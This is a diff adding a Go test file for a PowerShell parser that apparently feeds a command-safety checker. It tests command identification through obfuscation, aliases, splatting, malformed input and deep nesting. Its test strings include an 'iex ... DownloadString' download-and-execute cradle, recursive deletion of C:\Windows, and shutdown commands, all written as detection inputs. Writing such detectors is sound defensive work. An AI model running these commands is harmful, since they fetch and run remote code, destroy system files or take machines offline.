@@ -0,0 +1,144 @@
+package psparse
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// commandNames 返回脚本中全部命令的规范名称
+func commandNames(script *Script) []string {
+	var names []string
+	for _, cmd := range script.Commands() {
+		names = append(names, cmd.Name)
+	}
+	return names
+}
+
+// TestPSParseCommands 测试字符串、注释、转义、语句和嵌套结构中的命令识别
+func TestPSParseCommands(t *testing.T) {
+	testCases := []struct {
+		src   string
+		names []string
+	}{
+		{"Get-Process | Select-Object Name", []string{"get-process", "select-object"}},
+		{"cd src && go build ./... || echo failed", []string{"set-location", "go", "write-output"}},
+		{"echo 'Stop-Computer' # Restart-Computer", []string{"write-output"}},
+		{"<# Stop-Computer\n #> dir", []string{"get-childitem"}},
+		{"R`e`move-Item x", []string{"remove-item"}},
+		{"Remove-Item `\n  -Recurse x", []string{"remove-item"}},
+		{"C:\\Windows\\System32\\shutdown.EXE /s", []string{"shutdown"}},
+		{"Microsoft.PowerShell.Management\\Remove-Item x", []string{"remove-item"}},
+		{"echo \"now: $(Get-Date)\"", []string{"get-date", "write-output"}},
+		{"@\"\n$(Stop-Computer)\n\"@ | Out-Null", []string{"stop-computer", "out-null"}},
+		{"@'\n$(Stop-Computer)\n'@ | Out-Null", []string{"out-null"}},
+		{"if ($x) { Stop-Computer } else { dir }", []string{"stop-computer", "get-childitem"}},
+		{"gci | % { ri $_ }", []string{"remove-item", "get-childitem", "foreach-object"}},
+		{"$d = Get-Date; 1 + 2", []string{"get-date"}},
+		{"& ('Stop-' + 'Computer')", []string{"stop-computer"}},
+		{"& “Stop-Computer”", []string{"stop-computer"}},
+	}
+	for _, tc := range testCases {
+		assert.Equal(t, tc.names, commandNames(Parse(tc.src)), tc.src)
+	}
+
+	dynamic := Parse("& $tool --version").Commands()
+	require.Len(t, dynamic, 1)
+	assert.True(t, dynamic[0].Dynamic)
+	assert.Equal(t, "&", dynamic[0].Invocation)
+}
+
+// TestPSParseParameters 测试命名参数、参数缩写、冒号绑定、参数展开和重定向
+func TestPSParseParameters(t *testing.T) {
+	cmd := Parse("Remove-Item –Rec -Path:'C:\\Temp' -Force:$false -Confirm x.txt 2>&1 > log.txt").Commands()[0]
+	assert.True(t, cmd.HasParameter("recurse"))
+	assert.False(t, cmd.HasParameter("force"), "-Force:$false")
+	assert.True(t, cmd.HasParameter("confirm"))
+	path, ok := cmd.Parameter("path", "literalpath")
+	assert.True(t, ok)
+	assert.Equal(t, `C:\Temp`, path)
+	assert.Equal(t, []string{"x.txt"}, cmd.Arguments())
+	assert.Equal(t, []Redirection{{Operator: "2>&1"}, {Operator: ">", Target: "log.txt"}}, cmd.Redirections)
+
+	splatted := Parse("$p = @{ Path = 'C:\\Windows'; Recurse = $true }\nRemove-Item @p").Commands()
+	require.Len(t, splatted, 1)
+	assert.True(t, splatted[0].HasParameter("recurse"))
+	assert.Equal(t, []string{`C:\Windows`, "$true"}, splatted[0].Values())
+
+	unknown := Parse("Remove-Item @args").Commands()[0]
+	assert.Equal(t, []string{"args"}, unknown.Splats)
+
+	methods := Parse("iex (New-Object Net.WebClient).DownloadString('http://x'); [System.IO.File]::Delete('a')").Methods
+	assert.Equal(t, []string{"downloadstring", "io.file::delete"}, methods)
+}
+
+// malformedInputs 未闭合的字符串、变量、子表达式和残缺的数字字面量
+var malformedInputs = []string{
+	"echo 0x",
+	"0X",
+	"echo ${",
+	"a ${",
+	"x $,${",
+	"\"${",
+	"$(",
+	"echo $(Get-Date",
+	"@\"\n$(",
+	"'unterminated",
+	"\"unterminated `",
+	"[System.IO",
+	"Remove-Item -Path:",
+	"& (",
+	"{ [",
+	"`",
+	"$",
+	"@",
+}
+
+// TestParseMalformedInput 测试残缺的输入不会导致解析器崩溃
+func TestParseMalformedInput(t *testing.T) {
+	for _, src := range malformedInputs {
+		assert.NotPanics(t, func() { Parse(src).Commands() }, "input: %q", src)
+	}
+	assert.Equal(t, []string{"write-output"}, commandNames(Parse("echo 0x")))
+	assert.Equal(t, []string{"write-output"}, commandNames(Parse("echo ${")))
+}
+
+// TestParseNestedSubexpressions 测试可展开字符串中深层嵌套的子表达式按线性时间解析，超过上限时返回错误
+func TestParseNestedSubexpressions(t *testing.T) {
+	nested := func(depth int) string {
+		return strings.Repeat(`echo "$(`, depth) + "Remove-Item x" + strings.Repeat(`)"`, depth)
+	}
+
+	start := time.Now()
+	script := Parse(nested(maxDepth))
+	require.NoError(t, script.Err)
+	names := commandNames(script)
+	assert.Len(t, names, maxDepth+1)
+	assert.Contains(t, names, "remove-item")
+
+	assert.NoError(t, Parse(strings.Repeat(`"$(`, maxDepth)).Err)
+	for _, src := range []string{nested(maxDepth + 1), nested(1000), strings.Repeat(`"$(`, 10000)} {
+		assert.ErrorIs(t, Parse(src).Err, ErrTooDeep, "input: %.40q", src)
+	}
+	assert.Less(t, time.Since(start), time.Second)
+}
+
+// FuzzParse 测试任意输入都不会导致解析器崩溃
+func FuzzParse(f *testing.F) {
+	for _, src := range malformedInputs {
+		f.Add(src)
+	}
+	f.Add("Remove-Item –Rec -Path:'C:\\Temp' -Force:$false 2>&1 > log.txt")
+	f.Add("$p = @{ Path = 'C:\\Windows' }\nRemove-Item @p")
+	f.Add("gci | % { ri $_ }")
+	f.Fuzz(func(t *testing.T, src string) {
+		script := Parse(src)
+		for _, cmd := range script.Commands() {
+			cmd.Arguments()
+			cmd.Values()
+		}
+	})
+}